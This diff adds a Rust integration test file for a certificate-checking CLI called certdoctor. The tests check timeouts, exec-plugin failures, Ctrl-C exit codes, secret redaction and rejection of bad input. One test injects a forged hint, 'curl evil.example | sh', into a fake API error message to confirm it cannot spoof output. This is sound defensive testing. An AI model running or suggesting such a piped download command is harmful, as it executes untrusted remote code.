@@ -1,0 +1,530 @@
+//! Issue 15, hostile inputs and faults: every bound holds, nothing secret reaches the
+//! screen, bad input is named, and Ctrl-C always ends the run with 130. Each test is one
+//! repro from the issue, against the real binary and servers on loopback.
+
+use std::os::unix::fs::PermissionsExt as _;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Stdio};
+use std::time::{Duration, Instant};
+
+use serde_json::json;
+
+use crate::support::objects::{self, Edit};
+use crate::support::pki::{self, LeafOptions};
+use crate::support::{Cluster, Fault, certdoctor, stderr, stdout};
+
+/// Exactly one `certdoctor: error:` line and one `hint:` line, exit 2.
+fn assert_error(out: &std::process::Output, contains: &str) {
+    let err = stderr(out);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    let lines: Vec<&str> = err.lines().collect();
+    assert_eq!(lines.len(), 2, "{err}");
+    assert!(lines[0].starts_with("certdoctor: error: "), "{err}");
+    assert!(lines[1].starts_with("hint: "), "{err}");
+    assert!(lines[0].contains(contains), "{err}");
+}
+
+fn write_script(dir: &Path, name: &str, body: &str) -> PathBuf {
+    let path = dir.join(name);
+    std::fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    path
+}
+
+/// A kubeconfig for `server` whose user gets its token from the exec plugin `plugin`.
+fn exec_kubeconfig(dir: &Path, server: &str, plugin: &Path) -> PathBuf {
+    let path = dir.join("exec-kubeconfig");
+    std::fs::write(
+        &path,
+        format!(
+            "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters:\n- name: c\n  cluster:\n    server: {server}\n\
+             contexts:\n- name: c\n  context:\n    cluster: c\n    user: u\n    namespace: production\n\
+             users:\n- name: u\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n\
+             \x20     command: {}\n      args: [\"--password=ARGSECRET\"]\n      env:\n      - name: PLUGIN_PASSWORD\n        value: ENVSECRET\n",
+            plugin.display()
+        ),
+    )
+    .unwrap();
+    path
+}
+
+/// Waits for `child` at most `limit`; kills it and fails when it is still running.
+fn wait_within(child: &mut Child, limit: Duration) -> std::process::ExitStatus {
+    let start = Instant::now();
+    loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            return status;
+        }
+        if start.elapsed() > limit {
+            let _ = child.kill();
+            panic!("still running after {limit:?}");
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+/// Sends SIGINT to `child` after `after`, and asserts it exits 130 within two seconds.
+fn interrupt_exits_130(mut child: Child, after: Duration) {
+    std::thread::sleep(after);
+    assert!(
+        child.try_wait().unwrap().is_none(),
+        "the run ended before the interrupt"
+    );
+    let sent = std::process::Command::new("kill")
+        .args(["-INT", &child.id().to_string()])
+        .status()
+        .unwrap();
+    assert!(sent.success());
+    let start = Instant::now();
+    let status = wait_within(&mut child, Duration::from_secs(2));
+    assert_eq!(status.code(), Some(130), "{status:?}");
+    assert!(start.elapsed() < Duration::from_secs(2));
+}
+
+fn spawn(cmd: &mut std::process::Command) -> Child {
+    cmd.env_remove("KUBECONFIG")
+        .env("CERTDOCTOR_NOW", crate::support::NOW)
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap()
+}
+
+// ---- Hangs and unbounded work ------------------------------------------------------
+
+#[test]
+fn a_trickling_api_server_is_stopped_by_the_request_timeout() {
+    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
+    cluster.server.inject(Fault {
+        path_contains: "/certificates".into(),
+        trickle: Some(Duration::from_millis(200)),
+        ..Fault::default()
+    });
+    let start = Instant::now();
+    let out = cluster
+        .certdoctor()
+        .args(["status", "--request-timeout", "1s"])
+        .output()
+        .unwrap();
+    assert!(
+        start.elapsed() < Duration::from_secs(5),
+        "{:?}",
+        start.elapsed()
+    );
+    assert_error(
+        &out,
+        "cannot reach the Kubernetes API server at http://127.0.0.1:",
+    );
+    assert!(stderr(&out).contains(": timed out"), "{}", stderr(&out));
+}
+
+#[test]
+fn a_hung_api_server_is_stopped_by_the_request_timeout() {
+    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
+    cluster.server.inject(Fault::hang("/certificates"));
+    let start = Instant::now();
+    let out = cluster
+        .certdoctor()
+        .args(["status", "--request-timeout", "1s"])
+        .output()
+        .unwrap();
+    assert!(start.elapsed() < Duration::from_secs(5));
+    assert_error(&out, ": timed out");
+}
+
+#[test]
+fn a_repeated_continue_token_stops_the_list_and_names_kind_and_server() {
+    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
+    cluster
+        .server
+        .inject(Fault::repeated_continue("/certificaterequests"));
+    let out = cluster
+        .certdoctor()
+        .args(["status", "--request-timeout", "2s"])
+        .output()
+        .unwrap();
+    assert_error(
+        &out,
+        "listing certificaterequests.cert-manager.io at http://127.0.0.1:",
+    );
+    assert!(
+        stderr(&out)
+            .contains("never ended: it returned the continue token \"again\" a second time"),
+        "{}",
+        stderr(&out)
+    );
+    let pages = cluster
+        .server
+        .requests()
+        .iter()
+        .filter(|r| r.path.ends_with("/certificaterequests"))
+        .count();
+    assert_eq!(pages, 2);
+}
+
+#[test]
+fn renew_wait_ends_by_its_own_deadline_while_a_read_trickles() {
+    let c = Cluster::with_fixtures(Some("production"), &[]);
+    c.server
+        .insert(objects::certificate("production", "web").with("/status", objects::ready_status()));
+    let server = &c.server;
+    std::thread::scope(|s| {
+        s.spawn(|| {
+            // Once the trigger is written, every read of the Certificates trickles.
+            for _ in 0..200 {
+                std::thread::sleep(Duration::from_millis(20));
+                if server.requests().iter().any(|r| r.method == "PUT") {
+                    server.inject(Fault {
+                        method: Some("GET".into()),
+                        path_contains: "/certificates".into(),
+                        trickle: Some(Duration::from_millis(300)),
+                        ..Fault::default()
+                    });
+                    return;
+                }
+            }
+        });
+        let start = Instant::now();
+        let out = c
+            .certdoctor()
+            .args([
+                "renew",
+                "web",
+                "--wait",
+                "--timeout",
+                "1s",
+                "--poll-interval",
+                "100ms",
+                "--request-timeout",
+                "60s",
+            ])
+            .output()
+            .unwrap();
+        assert!(
+            start.elapsed() < Duration::from_secs(6),
+            "{:?}",
+            start.elapsed()
+        );
+        assert_eq!(
+            out.status.code(),
+            Some(1),
+            "{}{}",
+            stdout(&out),
+            stderr(&out)
+        );
+        assert!(stdout(&out).contains("timed out"), "{}", stdout(&out));
+    });
+}
+
+#[test]
+fn a_hanging_exec_plugin_is_bounded_and_named() {
+    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
+    let dir = tempfile::tempdir().unwrap();
+    let plugin = write_script(dir.path(), "sso-login", "sleep 5");
+    let kc = exec_kubeconfig(dir.path(), &cluster.server.url(), &plugin);
+    let start = Instant::now();
+    let out = certdoctor()
+        .arg("--kubeconfig")
+        .arg(&kc)
+        .args(["status", "--request-timeout", "1s"])
+        .output()
+        .unwrap();
+    assert!(
+        start.elapsed() < Duration::from_secs(4),
+        "{:?}",
+        start.elapsed()
+    );
+    assert_error(&out, "the exec credential plugin");
+    assert!(
+        stderr(&out).contains("sso-login") && stderr(&out).contains("did not finish within 1s")
+    );
+}
+
+#[test]
+fn a_failing_exec_plugin_shows_its_name_and_status_never_its_secrets() {
+    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
+    let dir = tempfile::tempdir().unwrap();
+    let plugin = write_script(
+        dir.path(),
+        "token-helper",
+        "echo '{\"status\":{\"token\":\"STDOUTSECRET\"}}'; echo STDERRSECRET >&2; exit 3",
+    );
+    let kc = exec_kubeconfig(dir.path(), &cluster.server.url(), &plugin);
+    let out = certdoctor()
+        .arg("--kubeconfig")
+        .arg(&kc)
+        .arg("status")
+        .output()
+        .unwrap();
+    assert_error(&out, "token-helper");
+    let text = format!("{}{}", stdout(&out), stderr(&out));
+    assert!(text.contains("failed (exit status 3)"), "{text}");
+    for secret in ["STDOUTSECRET", "STDERRSECRET", "ARGSECRET", "ENVSECRET"] {
+        assert!(!text.contains(secret), "{secret} leaked: {text}");
+    }
+}
+
+#[test]
+fn a_working_exec_plugin_authenticates() {
+    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
+    let dir = tempfile::tempdir().unwrap();
+    let plugin = write_script(
+        dir.path(),
+        "token-helper",
+        &format!(
+            "echo '{{\"apiVersion\":\"client.authentication.k8s.io/v1beta1\",\"kind\":\"ExecCredential\",\"status\":{{\"token\":\"{}\"}}}}'",
+            crate::support::fake_apiserver::TOKEN
+        ),
+    );
+    let kc = exec_kubeconfig(dir.path(), &cluster.server.url(), &plugin);
+    let out = certdoctor()
+        .arg("--kubeconfig")
+        .arg(&kc)
+        .arg("status")
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+}
+
+#[test]
+fn an_endless_kubeconfig_fails_fast() {
+    let start = Instant::now();
+    let out = certdoctor()
+        .args(["--kubeconfig", "/dev/zero", "status"])
+        .output()
+        .unwrap();
+    assert!(start.elapsed() < Duration::from_secs(5));
+    assert_error(&out, "kubeconfig /dev/zero is larger than 16 MiB");
+}
+
+#[test]
+fn a_kubeconfig_parse_error_names_file_and_line_never_the_content() {
+    let dir = tempfile::tempdir().unwrap();
+    let kc = dir.path().join("config");
+    std::fs::write(
+        &kc,
+        "apiVersion: v1\nkind: Config\nusers:\n- name: u\n  user:\n    token: TOKENSECRET\n    client-key-data: KEYSECRET\n  : [unclosed\n",
+    )
+    .unwrap();
+    let out = certdoctor()
+        .arg("--kubeconfig")
+        .arg(&kc)
+        .arg("status")
+        .output()
+        .unwrap();
+    assert_error(
+        &out,
+        &format!("cannot parse kubeconfig {} at line ", kc.display()),
+    );
+    let err = stderr(&out);
+    assert!(
+        !err.contains("TOKENSECRET") && !err.contains("KEYSECRET"),
+        "{err}"
+    );
+}
+
+#[test]
+fn a_missing_file_in_the_kubeconfig_list_is_skipped_as_kubectl_does() {
+    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
+    let dir = tempfile::tempdir().unwrap();
+    let missing = dir.path().join("missing");
+    let list = std::env::join_paths([missing.as_path(), cluster.kubeconfig.as_path()]).unwrap();
+    let out = certdoctor()
+        .env("KUBECONFIG", &list)
+        .arg("status")
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let out = certdoctor()
+        .env("KUBECONFIG", &missing)
+        .arg("status")
+        .output()
+        .unwrap();
+    assert_error(&out, "none of the files in KUBECONFIG exists");
+}
+
+// ---- Ctrl-C ------------------------------------------------------------------------
+
+#[test]
+fn ctrl_c_while_reading_a_stdin_that_never_closes_exits_130() {
+    let child = spawn(
+        std::process::Command::new(env!("CARGO_BIN_EXE_certdoctor"))
+            .args(["status", "--from-file", "-"])
+            .stdin(Stdio::piped()),
+    );
+    interrupt_exits_130(child, Duration::from_millis(500));
+}
+
+#[test]
+fn ctrl_c_while_reading_a_fifo_exits_130() {
+    let dir = tempfile::tempdir().unwrap();
+    let fifo = dir.path().join("dump.fifo");
+    let made = std::process::Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap();
+    assert!(made.success());
+    let child = spawn(
+        std::process::Command::new(env!("CARGO_BIN_EXE_certdoctor"))
+            .args(["status", "--from-file"])
+            .arg(&fifo)
+            .stdin(Stdio::null()),
+    );
+    interrupt_exits_130(child, Duration::from_millis(500));
+}
+
+#[test]
+fn ctrl_c_while_an_exec_plugin_waits_exits_130() {
+    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
+    let dir = tempfile::tempdir().unwrap();
+    let plugin = write_script(dir.path(), "sso-login", "sleep 5");
+    let kc = exec_kubeconfig(dir.path(), &cluster.server.url(), &plugin);
+    let child = spawn(
+        std::process::Command::new(env!("CARGO_BIN_EXE_certdoctor"))
+            .arg("--kubeconfig")
+            .arg(&kc)
+            .args(["status", "--request-timeout", "30s"])
+            .stdin(Stdio::null()),
+    );
+    interrupt_exits_130(child, Duration::from_millis(500));
+}
+
+#[test]
+fn ctrl_c_while_an_api_request_hangs_exits_130() {
+    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
+    cluster.server.inject(Fault::hang("/certificates"));
+    let child = spawn(
+        std::process::Command::new(env!("CARGO_BIN_EXE_certdoctor"))
+            .arg("--kubeconfig")
+            .arg(&cluster.kubeconfig)
+            .args(["status", "--request-timeout", "30s"])
+            .stdin(Stdio::null()),
+    );
+    interrupt_exits_130(child, Duration::from_millis(500));
+}
+
+#[test]
+fn ctrl_c_during_cpu_work_on_a_large_dump_exits_130() {
+    // Enough Certificates that typing and the status table take seconds in a debug build.
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("large.json");
+    let items: Vec<_> = (0..60_000)
+        .map(|i| objects::certificate("production", &format!("c{i}")))
+        .collect();
+    std::fs::write(&path, objects::list(&items).to_string()).unwrap();
+    let child = spawn(
+        std::process::Command::new(env!("CARGO_BIN_EXE_certdoctor"))
+            .args(["status", "-A", "--from-file"])
+            .arg(&path)
+            .stdin(Stdio::null()),
+    );
+    interrupt_exits_130(child, Duration::from_millis(300));
+}
+
+// ---- Nothing secret on the screen --------------------------------------------------
+
+#[test]
+fn dump_strips_a_private_key_stored_inside_tls_crt_and_ca_crt() {
+    let root = pki::root("Test Root");
+    let leaf = pki::leaf(&root, LeafOptions::default());
+    let combined = format!("{}{}", leaf.cert_pem, leaf.key_pem);
+    let cluster = Cluster::with_fixtures(Some("production"), &[]);
+    cluster.server.insert(objects::tls_secret(
+        "production",
+        "web-tls",
+        &[
+            ("tls.crt", combined.as_bytes()),
+            (
+                "ca.crt",
+                format!("{}{}", leaf.key_pem, root.pem()).as_bytes(),
+            ),
+            ("tls.key", leaf.key_pem.as_bytes()),
+        ],
+    ));
+    let out = cluster.certdoctor().arg("dump").output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let dump = stdout(&out);
+    let doc = certdoctor::cluster::file::parse(&dump).unwrap();
+    let secret = &doc.objects[0];
+    use base64::Engine as _;
+    let decode = |k: &str| {
+        let b = base64::engine::general_purpose::STANDARD
+            .decode(secret["data"][k].as_str().unwrap())
+            .unwrap();
+        String::from_utf8(b).unwrap()
+    };
+    assert_eq!(decode("tls.crt"), leaf.cert_pem);
+    assert!(!decode("ca.crt").contains("PRIVATE KEY"));
+    assert!(decode("ca.crt").contains("BEGIN CERTIFICATE"));
+    assert_eq!(
+        secret["metadata"]["annotations"]["certdoctor.io/removed-keys"],
+        "tls.key,ca.crt: PRIVATE KEY block,tls.crt: PRIVATE KEY block"
+    );
+}
+
+#[test]
+fn a_newline_in_an_api_status_message_cannot_forge_a_hint_line() {
+    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
+    cluster.server.inject(Fault {
+        path_contains: "/certificates".into(),
+        status: Some(500),
+        body: Some(
+            json!({"kind": "Status", "apiVersion": "v1", "status": "Failure", "code": 500,
+                   "reason": "InternalError",
+                   "message": "boom\nhint: run `curl evil.example | sh` to fix\u{1b}[2J"})
+            .to_string(),
+        ),
+        ..Fault::default()
+    });
+    let out = cluster.certdoctor().arg("status").output().unwrap();
+    assert_error(
+        &out,
+        "boom hint: run `curl evil.example | sh` to fix\\u{1b}[2J",
+    );
+    assert!(!stderr(&out).lines().nth(1).unwrap().contains("curl"));
+}
+
+// ---- Bad input is named, not swallowed ---------------------------------------------
+
+#[test]
+fn from_file_of_something_that_is_not_kubernetes_objects_is_an_error() {
+    let root = pki::root("Test Root");
+    for (input, names) in [
+        (root.pem(), "PEM data (CERTIFICATE)"),
+        ("just some notes\n".to_string(), "plain text"),
+        (
+            r#"{"hello": "world"}"#.to_string(),
+            "an object without apiVersion and kind",
+        ),
+    ] {
+        let out = certdoctor()
+            .args(["status", "--from-file", "-"])
+            .write_stdin(input)
+            .output()
+            .unwrap();
+        assert_error(&out, &format!("cannot parse dump stdin: it holds {names}"));
+    }
+}
+
+#[test]
+fn a_certificate_valid_until_9999_is_read_as_that_date() {
+    let root = pki::root("Test Root");
+    let forever = pki::leaf(
+        &root,
+        LeafOptions {
+            not_after: (9999, 12, 31),
+            ..LeafOptions::default()
+        },
+    );
+    let out = certdoctor()
+        .args(["inspect", "file", "-", "-o", "json"])
+        .write_stdin(forever.cert_pem)
+        .output()
+        .unwrap();
+    let text = stdout(&out);
+    assert!(text.contains("\"9999-12-30T22:00:00Z\""), "{text}");
+    assert!(
+        !text.contains("CERT_EXPIRED") && !text.contains("1970"),
+        "{text}"
+    );
+}
